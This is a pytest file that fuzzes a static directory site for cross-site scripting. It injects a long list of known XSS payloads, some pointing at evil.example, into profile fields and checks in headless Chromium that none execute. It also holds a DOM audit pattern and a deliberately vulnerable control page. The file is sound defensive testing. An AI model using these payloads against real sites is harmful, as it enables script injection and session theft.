"""Fuzzed XSS: well-known payloads in every text field of many profiles; every page they appear
on, and the search page that renders them with JavaScript, is loaded in headless Chromium with
the page's CSP bypassed (so that escaping and sanitising alone are tested). No dialog may open,
window.__xss must stay unset, no element may gain an event handler, a frame or a script."""

from __future__ import annotations

import json
import re
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from markupsafe import escape

from hostile_support import SETTINGS, copy_content, html_files, wait_until

from directory.building import build_site  # noqa: E402
from directory.pipeline import read_directory  # noqa: E402
from directory.slugs import slugify  # noqa: E402

# From the OWASP XSS Filter Evasion Cheat Sheet and PortSwigger's XSS cheat sheet (typed in),
# plus Markdown and template-injection forms. Every one either calls alert(1) or sets
# window.__xss (see XSS_FORMS below).
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    '"><svg onload=alert(1)>',
    "<img src=x onerror=alert(1)>",
    '<img src="x`onerror=alert(1)`>',
    "<img src=`x`onerror=alert(1)>",
    "javascript:alert(1)",
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<iframe src="javascript:alert(1)">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "'-alert(1)-'",
    '";alert(1);//',
    "<body onload=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<a href=" &#14; javascript:alert(1)">x</a>',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    '<IMG SRC="jav\tascript:alert(1);">',
    "<svg/onload=alert(1)>",
    "<style>@import'//evil.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">',
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<x onmouseover=alert(1)>hover</x>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)//<</script>/script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><script href=data:,alert(1) />",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "${alert(1)}",
    '"onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<a href=javascript&colon;alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "<a href=\"\u2028javascript:alert(1)\">x</a>",
]
assert len(PAYLOADS) >= 40
COUNT = len(PAYLOADS)
KINDS = ["startups", "programs", "mentors"]


def payload(index: int, limit: int = 10_000, flavour: int = 0) -> str:
    """The first payload from ``index`` on (cyclically) that fits ``limit`` characters; odd
    flavours set window.__xss instead of calling alert."""
    for step in range(COUNT):
        text = PAYLOADS[(index + step) % COUNT]
        if flavour % 2:
            text = text.replace("alert(1)", "window.__xss=1")
        if len(text) <= limit:
            return text
    raise AssertionError(f"no payload fits {limit}")


def description(index: int) -> str:
    parts = []
    for offset in range(8):
        text = payload(index + offset, flavour=offset)
        parts += [text, f"[{text}](https://ok.example/{offset})", f"[link {offset}]({text})",
                  f"![{text}]({text})", f"`{text}`", f"## {text}", f"- {text}\n- item",
                  f"> {text}"]
    return "\n\n".join(parts)


def profile(index: int) -> tuple[str, dict]:
    kind = KINDS[index % 3]
    data = {
        "name": f"{payload(index, 110)} {index}",
        "summary": f"{payload(index + 1, 135, 1)} {payload(index + 2, 135)}",
        "city": payload(index + 3, 80, index),
        "region": payload(index + 4, 80, index + 1),
        "sectors": list(dict.fromkeys([payload(index + 5, 60), payload(index + 6, 60, 1)])),
        "description": description(index),
        "website": f"https://xss{index}.example/" + re.sub(r"\s+", "", payload(index, 1900)),
    }
    if kind == "programs":
        data["operator"] = payload(index + 7, 160, 1)
    if kind == "mentors":
        data["role"] = payload(index + 7, 160)
    return f"{kind}/xss-{index}.yaml", data


PROFILES = dict(profile(index) for index in range(COUNT))


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("xss")
    content = copy_content(root / "content")
    for relative, data in PROFILES.items():
        (content / relative).write_text(
            "".join(f"{key}: {json.dumps(value)}\n" for key, value in data.items()), encoding="utf-8")
    build_site(SETTINGS, content=content, output=root / "output")
    return root / "output"


def pages_with_payloads(site: Path) -> list[str]:
    pages = []
    for path in html_files(site):
        relative = path.relative_to(site).as_posix()
        if relative.startswith("search/"):
            continue
        text = path.read_text(encoding="utf-8")
        if "xss-" in relative or "/xss-" in text or relative in ("sectors/index.html", "cities/index.html"):
            pages.append("/" + relative.removesuffix("index.html"))
    return pages


CHUNKS = 4

# Run in the page after load: trigger event handlers a payload might have added, then list
# everything a payload could have injected into the DOM.
PROVOKE = """() => {
  for (const el of document.querySelectorAll('body *')) {
    for (const type of ['mouseover', 'mouseenter', 'pointerover', 'focus', 'animationstart', 'toggle'])
      el.dispatchEvent(new Event(type, { bubbles: true }));
    if (typeof el.focus === 'function') el.focus();
  }
}"""
AUDIT = """() => {
  const found = [];
  const themeScript = (s) => s.type === 'application/ld+json' || /\\/search\\/search-page\\.js$/.test(s.src)
    || (s.type === 'application/json' && s.id === 'search-manifest');
  for (const el of document.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    for (const attribute of el.attributes) {
      if (attribute.name.startsWith('on')) found.push(`${tag}[${attribute.name}]`);
      if (attribute.name === 'style') found.push(`${tag}[style]`);
      if (['href', 'src', 'action', 'formaction', 'data', 'srcdoc'].includes(attribute.name)
          && /^[\\s\\u0000-\\u001f]*(javascript|data|vbscript):/i.test(attribute.value.replace(/[\\s\\u0000-\\u001f]/g, '')))
        found.push(`${tag}[${attribute.name}=${attribute.value}]`);
    }
    if (['iframe', 'frame', 'object', 'embed', 'svg', 'math', 'base', 'form', 'input', 'video', 'audio',
         'marquee', 'details', 'textarea', 'select', 'style', 'noscript'].includes(tag)
        && !(tag === 'form' && el.getAttribute('role') === 'search')
        && !(tag === 'input' && el.closest('form[role=search], #search-filters'))
        && !(tag === 'details' && el.id === 'search-filters-panel')
        && !(tag === 'svg' && el.matches('header a.brand > svg.brand-mark'))) found.push(tag);
    if (tag === 'script' && !themeScript(el)) found.push('script');
    if (tag === 'img' && !el.classList.contains('logo')) found.push(`img ${el.getAttribute('src')}`);
    if (tag === 'meta' && el.httpEquiv && el.httpEquiv.toLowerCase() !== 'content-security-policy') found.push('meta refresh');
  }
  if (window.__xss !== undefined) found.push('window.__xss was set');
  return found;
}"""


@pytest.fixture
def visitor(browser):
    """visit(url) loads a page with the CSP bypassed, provokes handlers and audits the DOM;
    .problems collects dialogs, page errors, console errors, stray requests and findings."""
    context = browser.new_context(bypass_csp=True)
    page = context.new_page()
    problems: list[str] = []
    page.on("dialog", lambda d: (problems.append(f"dialog on {page.url}: {d.message}"), d.dismiss()))
    page.on("pageerror", lambda e: problems.append(f"page error on {page.url}: {e}"))
    page.on("console", lambda m: m.type == "error" and problems.append(f"console error on {page.url}: {m.text}"))
    page.on("request", lambda r: urlsplit(r.url).hostname not in ("127.0.0.1", None)
            and problems.append(f"request to {r.url}"))

    def visit(url: str, ready=None) -> None:
        page.goto(url, wait_until="load")
        if ready:
            ready(page)
        page.evaluate(PROVOKE)
        page.wait_for_timeout(10)  # timers a payload might have queued
        if urlsplit(page.url).path != urlsplit(url).path:
            problems.append(f"{url} navigated to {page.url}")
            return
        problems.extend(f"{url}: {finding}" for finding in page.evaluate(AUDIT))

    visit.page = page
    visit.problems = problems
    yield visit
    context.close()


def test_payload_websites_that_are_not_http_are_rejected(tmp_path):
    content = copy_content(tmp_path / "content")
    for index, text in enumerate(PAYLOADS):
        (content / "startups" / f"site-{index}.yaml").write_text(
            f"name: Site {index}\nsummary: x\ncity: LA\nwebsite: {json.dumps(text)}\n", encoding="utf-8")
    _, problems = read_directory(content)
    rejected = {p.path.name: p for p in problems}
    assert len(problems) == COUNT
    for index, text in enumerate(PAYLOADS):
        problem = rejected[f"site-{index}.yaml"]
        assert (problem.line, problem.col) == (4, 10)
        assert problem.message.startswith("website must be an http:// or https:// address")


def test_every_field_of_the_hostile_profiles_is_published(site):
    """The payloads did reach the pages, as text: the build accepted every hostile profile."""
    for relative, data in PROFILES.items():
        kind, slug = relative[: -len(".yaml")].split("/")
        html = (site / kind / slug / "index.html").read_text(encoding="utf-8")
        for field in ("name", "summary", "region", "role", "operator"):
            if field in data:
                assert str(escape(" ".join(data[field].split()))) in html, (relative, field)
        # A facet shows its most common spelling: the slug's page is linked either way.
        for facet, value in [("cities", data["city"])] + [("sectors", s) for s in data["sectors"]]:
            assert f'href="../../{facet}/{slugify(value)}/"' in html, (relative, value)
        assert str(escape(data["website"])) in html


@pytest.mark.parametrize("chunk", range(CHUNKS))
def test_pages_with_payloads_run_no_script(chunk, site, visitor, serve_directory):
    base = serve_directory(site)
    pages = pages_with_payloads(site)
    assert len(pages) > COUNT  # profiles, listings, home, facets
    for path in pages[chunk::CHUNKS]:
        visitor(base + path)
    assert visitor.problems == []


def search_ready(page) -> None:
    wait_until(page, "document.documentElement.classList.contains('search-ready')")
    wait_until(page, "!/Loading/.test(document.getElementById('search-status').textContent)")
    for _ in range(10):  # show every result and every filter
        clicked = page.evaluate("""() => {
            const buttons = [...document.querySelectorAll('#search-more:not([hidden]), #search-filters .link-button')]
              .filter((b) => !b.textContent.startsWith('Show fewer'));
            buttons.forEach((b) => b.click());
            return buttons.length;
        }""")
        if not clicked:
            break
        page.wait_for_timeout(50)


SEARCHES = ["?q=alert", "?q=script%20img%20svg%20onerror", "?q=xss&type=mentor",
            f"?sector={quote(PROFILES['startups/xss-0.yaml']['sectors'][0])}",
            f"?city={quote(PROFILES['startups/xss-0.yaml']['city'])}"]


def test_search_renders_payloads_as_text(site, visitor, serve_directory):
    base = serve_directory(site)
    for query in SEARCHES:
        visitor(f"{base}/search/{query}", ready=search_ready)
    page = visitor.page
    visitor(f"{base}/search/?q=alert", ready=search_ready)
    titles = page.locator("#search-results a.result-title").all_inner_texts()
    assert len(titles) >= 10 and any("<img src=x onerror=alert(1)>" in t for t in titles)
    labels = page.locator("#search-filters label").all_inner_texts()
    assert any("<script>alert(1)</script>" in label for label in labels)
    assert visitor.problems == []


def test_negative_control_the_harness_sees_script_run(tmp_path, visitor, serve_directory):
    (tmp_path / "index.html").write_text(
        "<!doctype html><html><body><img src=x onerror=alert(1)>"
        "<script>window.__xss = 1</script><a href='javascript:alert(2)'>x</a>"
        "<div onmouseover='alert(3)'>hover</div></body></html>", encoding="utf-8")
    base = serve_directory(tmp_path)
    visitor(base + "/")
    found = " | ".join(visitor.problems)
    for expected in ("dialog on", "img[onerror]", "window.__xss was set", "a[href=javascript:alert(2)]",
                     "div[onmouseover]", "script"):
        assert expected in found, found
    assert "dialog on" in found and ": 3" in found  # the mouseover handler was provoked
